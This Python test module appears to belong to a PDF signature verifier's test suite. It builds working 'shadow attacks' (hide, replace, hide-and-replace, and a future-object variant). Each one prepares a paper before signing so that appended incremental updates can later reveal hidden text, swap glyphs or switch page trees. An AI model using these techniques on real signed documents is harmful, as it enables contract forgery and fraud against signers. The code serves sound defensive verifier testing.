"""Shadow attacks, made here: the paper is prepared so that it can be turned into another one after it was signed.

Hide, replace, hide-and-replace are the three families of the published attacks; `future` uses an object number that
does not exist yet when the paper is signed.
"""

from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.verifier.attacks import Name, appended, first_page, stream
from tests.verifier.papers import make_paper

Edit = Callable[[IncrementalPdfFileWriter], None]


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def prepared(edit: Edit) -> bytes:
    """The paper the victim is asked to sign."""
    return appended(make_paper(), edit)


def _form(writer: IncrementalPdfFileWriter, data: bytes) -> generic.IndirectObject:
    return stream(writer, data, Type=Name("/XObject"), Subtype=Name("/Form"), BBox=numbers(0, 0, 600, 900))


def hide_prepare(writer: IncrementalPdfFileWriter) -> None:
    """The dangerous text is there, under a white sheet."""
    page = first_page(writer)
    sheet = _form(writer, b"1 g 90 560 300 40 re f")
    page["/Resources"][Name("/XObject")] = generic.DictionaryObject({Name("/Sheet"): sheet})
    bad = stream(writer, b"BT /F1 12 Tf 100 570 Td (Chuyen nhuong toan bo) Tj ET /Sheet Do")
    page[Name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), bad])
    writer.update_container(page["/Resources"])
    writer.update_container(page)


def hide_strike(writer: IncrementalPdfFileWriter) -> None:
    """Afterwards the sheet is made empty: a small object, nothing of the text touched."""
    sheet = first_page(writer)["/Resources"]["/XObject"].raw_get("/Sheet")
    dictionary = sheet.get_object()
    dictionary._data, dictionary._encoded_data = b" ", None
    writer.update_container(dictionary)


def replace_strike(writer: IncrementalPdfFileWriter) -> None:
    """The font is swapped, so that the same codes draw other glyphs."""
    font = first_page(writer)["/Resources"]["/Font"]["/F1"]
    font[Name("/Encoding")] = generic.DictionaryObject(
        {
            Name("/Type"): Name("/Encoding"),
            Name("/Differences"): generic.ArrayObject([generic.NumberObject(49), Name("/nine")]),
        }
    )
    writer.update_container(font)


def both_prepare(writer: IncrementalPdfFileWriter) -> None:
    """A second page tree lies in the file, and nothing leads to it."""
    page = generic.DictionaryObject(
        {
            Name("/Type"): Name("/Page"),
            Name("/MediaBox"): numbers(0, 0, 595, 842),
            Name("/Contents"): stream(writer, b"0 0 m 100 100 l S"),
        }
    )
    page_reference = writer.add_object(page)
    tree = generic.DictionaryObject(
        {
            Name("/Type"): Name("/Pages"),
            Name("/Kids"): generic.ArrayObject([page_reference]),
            Name("/Count"): generic.NumberObject(1),
            Name("/SecondSealHidden"): generic.BooleanObject(True),
        }
    )
    page[Name("/Parent")] = writer.add_object(tree)


def both_strike(writer: IncrementalPdfFileWriter) -> None:
    """Afterwards the catalogue points to the hidden tree."""
    for number in range(1, 60):
        try:
            entry = writer.get_object(generic.Reference(number, 0, writer.prev))
        except Exception:  # noqa: BLE001 - numbers that do not exist
            continue
        if isinstance(entry, generic.DictionaryObject) and "/SecondSealHidden" in entry:
            writer.root[Name("/Pages")] = generic.IndirectObject(number, 0, writer)
            writer.update_root()


def future_prepare(writer: IncrementalPdfFileWriter) -> None:
    """The page also draws object 400, which nobody has defined: readers draw nothing."""
    page = first_page(writer)
    page[Name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), generic.IndirectObject(400, 0, writer)])
    writer.update_container(page)


def future_strike(pdf: bytes) -> bytes:
    """Afterwards object 400 is added; no object of the signed revision is touched."""
    import re

    start = len(pdf)
    data = b"BT /F1 12 Tf 100 570 Td (Chuyen nhuong toan bo) Tj ET"
    body = b"400 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(data), data)
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    table = b"xref\n400 1\n%010d 00000 n \ntrailer\n<</Size 401/Root %s/Prev %s>>\n" % (start, root, old)
    return pdf + body + table + b"startxref\n%d\n%%%%EOF\n" % (start + len(body))


def strike(edit: Edit) -> Callable[[bytes], bytes]:
    return lambda pdf: appended(pdf, edit)
